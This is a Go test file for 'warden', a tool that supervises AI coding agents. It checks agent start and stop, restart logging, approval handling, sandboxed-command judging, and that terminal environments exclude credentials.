func TestStartAndStopOpenCodeAgent(t *testing.T) {
	f := newFixture(t, time.Minute)
	ws := f.addWorkspace(t)
	f.run(t)

	ai, err := f.s.StartAgent(t.Context(), filepath.Join(ws, "."), agent.OpenCode)
	if err != nil {
		t.Fatal(err)
	}
	if ai.Workspace != ws || ai.Agent != agent.OpenCode || !ai.Running || ai.Port != f.servers.port {
		t.Fatalf("StartAgent = %+v", ai)
	}
	if ai.Env["WARDEN_WORKSPACE_PATH"] != ws || ai.Env["WARDEN_MCP_PORT"] != "1" {
		t.Fatalf("env %v", ai.Env)
	}
	if w, _ := f.reg.Get(ws); w.Agent != string(agent.OpenCode) {
		t.Fatalf("registry agent %q, want opencode (remembered)", w.Agent)
	}
	if _, ok := f.s.tracked(ws); !ok {
		t.Fatal("no provider after StartAgent")
	}
	res, err := f.s.StopAgent(t.Context(), ws)
	if err != nil || !res.Stopped {
		t.Fatalf("StopAgent = %+v, %v", res, err)
	}
	if _, ok := f.s.tracked(ws); ok {
		t.Fatal("provider kept after StopAgent")
	}
	if w, _ := f.reg.Get(ws); w.Agent != "" {
		t.Fatalf("registry agent %q after stop, want none", w.Agent)
	}
	coretest.WaitEvents(t, f.c, event.AgentServer, 2)
	var actions []string
	for _, e := range f.events(t, event.AgentServer) {
		d := dataOf(t, e)
		if e.Workspace != ws || d["agent"] != string(agent.OpenCode) {
			t.Fatalf("agent.server %v in %s", d, e.Workspace)
		}
		actions = append(actions, d["action"].(string))
	}
	if len(actions) != 2 || actions[0] != "started" || actions[1] != "stopped" {
		t.Fatalf("agent.server actions %v, want started, stopped", actions)
	}
}

func TestRunStartsTheRememberedAgents(t *testing.T) {
	f := newFixture(t, time.Minute)
	ws := f.addWorkspace(t)
	idle := f.addWorkspace(t)
	if _, err := f.reg.SetAgent(ws, string(agent.OpenCode)); err != nil {
		t.Fatal(err)
	}
	f.servers.mu.Lock()
	f.servers.startErr = errors.New("fake: no program")
	f.servers.mu.Unlock()
	stop := f.run(t)
	select {
	case got := <-f.servers.startCalled:
		if got != ws {
			t.Fatalf("Run started %s, want %s", got, ws)
		}
	case <-time.After(waitFor):
		t.Fatal("Run did not start the remembered agent")
	}
	stop()
	f.servers.mu.Lock()
	starts := append([]string(nil), f.servers.starts...)
	f.servers.mu.Unlock()
	if len(starts) != 1 {
		t.Fatalf("StartServer calls %v, want only %s (not %s)", starts, ws, idle)
	}
}

func TestFailedStartLeavesNoProviderBehind(t *testing.T) {
	// `warden agents start opencode` without OpenCode installed fails; the
	// workspace must stay as it was: no OpenCode provider that would hide
	// the Claude Code session followed there.
	f := newFixture(t, time.Minute)
	ws := f.addWorkspace(t)
	f.run(t)
	if _, err := f.c.Record(t.Context(), hookEvent(t, ws, "sess-1", event.SessionStart, nil)); err != nil {
		t.Fatal(err)
	}
	statuses := coretest.Follow(t, f.c)
	statuses.Next(t, event.AgentStatus, func(e event.Event) bool { return e.Workspace == ws && dataOf(t, e)["to"] == string(agent.StatusIdle) })
	if got := f.s.Status().Status(ws); got != agent.StatusIdle {
		t.Fatalf("status after agent.status to idle = %s", got)
	}

	f.servers.mu.Lock()
	f.servers.startErr = agent.ErrNoBinary
	f.servers.mu.Unlock()
	if _, err := f.s.StartAgent(t.Context(), ws, agent.OpenCode); !errors.Is(err, agent.ErrNoBinary) {
		t.Fatalf("StartAgent = %v, want ErrNoBinary", err)
	}
	if tr, ok := f.s.tracked(ws); ok {
		t.Fatalf("a failed start left a %s provider", tr.typ)
	}
	if w, _ := f.reg.Get(ws); w.Agent != "" {
		t.Fatalf("registry agent %q after a failed start", w.Agent)
	}
	// Claude Code is followed again from its next hook event.
	if _, err := f.c.Record(t.Context(), hookEvent(t, ws, "sess-2", event.SessionStart, nil)); err != nil {
		t.Fatal(err)
	}
	statuses.Next(t, event.AgentStatus, func(e event.Event) bool {
		d := dataOf(t, e)
		return e.Workspace == ws && d["to"] == string(agent.StatusIdle) && d["sessionId"] == "sess-2"
	})
	if ai, err := f.s.Agent(ws); err != nil || ai.Agent != agent.ClaudeCode || ai.Status != agent.StatusIdle || ai.Session != "sess-2" {
		t.Fatalf("claude-code not followed again: %+v, %v", ai, err)
	}
}

// A server that cannot be restarted is one crash and one failed restart
// in the log, however often it is retried; `warden agents` shows the count,
// and the start that finally works records it.
func TestFailingRestartsAreRecordedOnce(t *testing.T) {
	f := newFixture(t, time.Minute)
	ws := f.addWorkspace(t)
	f.run(t)
	if _, err := f.s.StartAgent(t.Context(), ws, agent.OpenCode); err != nil {
		t.Fatal(err)
	}
	f.servers.crash(ws, 7)
	ai, err := f.s.Agent(ws)
	if err != nil || ai.Running || ai.RestartAttempts != 7 || !strings.Contains(ai.RestartError, "config is broken") {
		t.Fatalf("Agent while failing = %+v, %v", ai, err)
	}
	if _, err := f.s.StartAgent(t.Context(), ws, agent.OpenCode); err != nil {
		t.Fatal(err)
	}
	coretest.WaitEvents(t, f.c, event.AgentServer, 4)
	var got []map[string]any
	for _, e := range f.events(t, event.AgentServer) {
		got = append(got, dataOf(t, e))
	}
	want := []string{"started", "crashed", "restart-failed", "started"}
	if len(got) != len(want) {
		t.Fatalf("agent.server records %v, want %v", got, want)
	}
	for i, d := range got {
		if d["action"] != want[i] {
			t.Fatalf("agent.server records %v, want actions %v", got, want)
		}
	}
	if got[2]["attempts"] != 1.0 || !strings.Contains(got[2]["error"].(string), "config is broken") {
		t.Fatalf("restart-failed record %v", got[2])
	}
	if got[3]["failedAttempts"] != 7.0 {
		t.Fatalf("started record %v, want failedAttempts 7", got[3])
	}
	if ai, _ := f.s.Agent(ws); ai.RestartAttempts != 0 || ai.RestartError != "" {
		t.Fatalf("Agent after the start = %+v", ai)
	}
}

// Stopping an agent closes its permission requests waiting in warden as
// lost: nobody is left to answer, and approving one would do nothing.
func TestStopAgentClosesItsApprovalsAsLost(t *testing.T) {
	f := newFixture(t, time.Minute)
	ws := f.addWorkspace(t)
	other := f.addWorkspace(t)
	f.run(t)
	p := newFakeProvider("ses_test")
	f.track(ws, p)
	po := newFakeProvider("ses_other")
	f.track(other, po)
	f.s.bridge.Asked(ws, bashPermission("per_a", "ls"))
	f.s.bridge.Asked(other, bashPermission("per_o", "pwd"))
	req := waitApproval(t, f.c, "per_a")
	waitApproval(t, f.c, "per_o")
	if _, err := f.s.StopAgent(t.Context(), ws); err != nil {
		t.Fatal(err)
	}
	rs := f.resolutions(t, "per_a")
	if len(rs) != 1 || rs[0]["outcome"] != string(approval.Lost) || rs[0]["approvalId"] != req.ID ||
		!strings.Contains(rs[0]["reason"].(string), "stopped") {
		t.Fatalf("approval.resolved of per_a = %v, want lost", rs)
	}
	if !p.isDisposed() {
		t.Fatal("the stopped agent's provider was not disposed")
	}
	p.noReply(t)
	// The other workspace's request still waits.
	if l := f.c.Approvals(); len(l) != 1 || l[0].CallID != "per_o" {
		t.Fatalf("approvals after stop: %+v", l)
	}
	f.waitPending(t, "the bridge to forget per_a", func(pend map[string][]string) bool {
		return len(pend[ws]) == 0 && len(pend[other]) == 1
	})
}

// A new terminal's environment from warden: the workspace's variables, and
// where its agent runs once one is tracked; never a credential.
func TestTerminalEnv(t *testing.T) {
	f := newFixture(t, time.Minute)
	ws := f.addWorkspace(t)
	env := f.s.TerminalEnv(ws)
	if env["WARDEN_WORKSPACE_PATH"] != ws || env["WARDEN_MCP_PORT"] != "1" {
		t.Fatalf("untracked workspace: %v", env)
	}
	f.track(ws, newFakeProvider("ses_test"))
	if env := f.s.TerminalEnv(ws); env["FAKE"] != "1" {
		t.Fatalf("tracked workspace: %v, want the provider's environment", env)
	}
	for k := range f.s.TerminalEnv(ws) {
		if k == agent.CredentialVar || k == "WARDEN_TOKEN" {
			t.Fatalf("terminal environment holds %s", k)
		}
	}
}

// OpenCode asks permission for the line warden made of an allowed call
// (its sandbox wrapper, which execs warden's program from the protected
// data dir): the bridge judges, and a person approves, the command the
// agent asked for, not warden's own wrapper.
func TestBridgeJudgesTheCommandWardenConfined(t *testing.T) {
	f := newFixture(t, time.Minute)
	ws := f.addWorkspace(t)
	p := newFakeProvider("ses_test")
	f.track(ws, p)
	line := "/home/u/.local/share/warden/bin/warden sandbox -w " + ws + " -- /bin/bash -c 'echo approved > ran.txt'"
	data, err := json.Marshal(event.ToolConfinedData{CallID: "toolcall_per_c", Tool: "bash", Command: "echo approved > ran.txt", Line: line})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := f.c.Record(t.Context(), event.Event{Session: "ses_test", Type: event.ToolConfined, Source: "opencode/monitor", Workspace: ws, Data: data}); err != nil {
		t.Fatal(err)
	}
	f.s.bridge.Asked(ws, bashPermission("per_c", line))
	req := waitApproval(t, f.c, "per_c")
	if got := req.Call.Args["command"]; got != "echo approved > ran.txt" {
		t.Fatalf("the approval judges %q, want the agent's command", got)
	}
	// A command that is no line of warden's is judged as asked.
	f.s.bridge.Asked(ws, bashPermission("per_d", line+" ; true"))
	if got := waitApproval(t, f.c, "per_d").Call.Args["command"]; got != line+" ; true" {
		t.Fatalf("an unknown line was judged as %q", got)
	}
	f.s.bridge.Lost(ws, []string{"per_c", "per_d"})
	f.noPending(t)
}

// lockedBuffer is a bytes.Buffer safe for a logger's concurrent writes;
// wrote ticks after each write.
type lockedBuffer struct {
	mu    sync.Mutex
	b     bytes.Buffer
	wrote chan struct{}
}

func (l *lockedBuffer) Write(p []byte) (int, error) {
	l.mu.Lock()
	defer l.mu.Unlock()
	select {
	case l.wrote <- struct{}{}:
	default:
	}
	return l.b.Write(p)
}

// waitLine returns the first line holding s, waiting for writes.
func (l *lockedBuffer) waitLine(t *testing.T, s string) string {
	t.Helper()
	deadline := time.After(waitFor)
	for {
		for line := range strings.SplitSeq(l.String(), "\n") {
			if strings.Contains(line, s) {
				return line
			}
		}
		select {
		case <-l.wrote:
		case <-deadline:
			t.Fatalf("no record %q:\n%s", s, l.String())
		}
	}
}

func (l *lockedBuffer) String() string {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.b.String()
}

// A provider's records name its agent and workspace once: the supervisor
// does not add them a second time (the log read "workspace=/w agent=opencode
// agent=opencode workspace=/w").
func TestProviderRecordsNameTheirWorkspaceOnce(t *testing.T) {
	c := coretest.New(t, coretest.Options{})
	reg, err := workspace.Open(filepath.Join(t.TempDir(), workspace.FileName), workspace.Options{})
	if err != nil {
		t.Fatal(err)
	}
	logs := lockedBuffer{wrote: make(chan struct{}, 1)}
	s, err := New(Options{
		Core: c, Registry: reg, AgentDir: t.TempDir(), Logger: slog.New(slog.NewTextHandler(&logs, nil)),
		Env:     map[string]string{"WARDEN_MCP_PORT": "1"},
		Servers: map[agent.Type]agent.ServerManager{agent.OpenCode: newFakeServers(closedPort(t))},
	})
	if err != nil {
		t.Fatal(err)
	}
	f := &fixture{c: c, reg: reg, s: s}
	ws := f.addWorkspace(t)
	f.run(t)
	// nothing listens on the port: the provider says it cannot connect
	if _, err := s.StartAgent(t.Context(), ws, agent.OpenCode); err != nil {
		t.Fatal(err)
	}
	line := logs.waitLine(t, "connect to opencode")
	if n, m := strings.Count(line, " workspace="), strings.Count(line, " agent="); n != 1 || m != 1 {
		t.Fatalf("workspace named %d times, agent %d times: %s", n, m, line)
	}
}
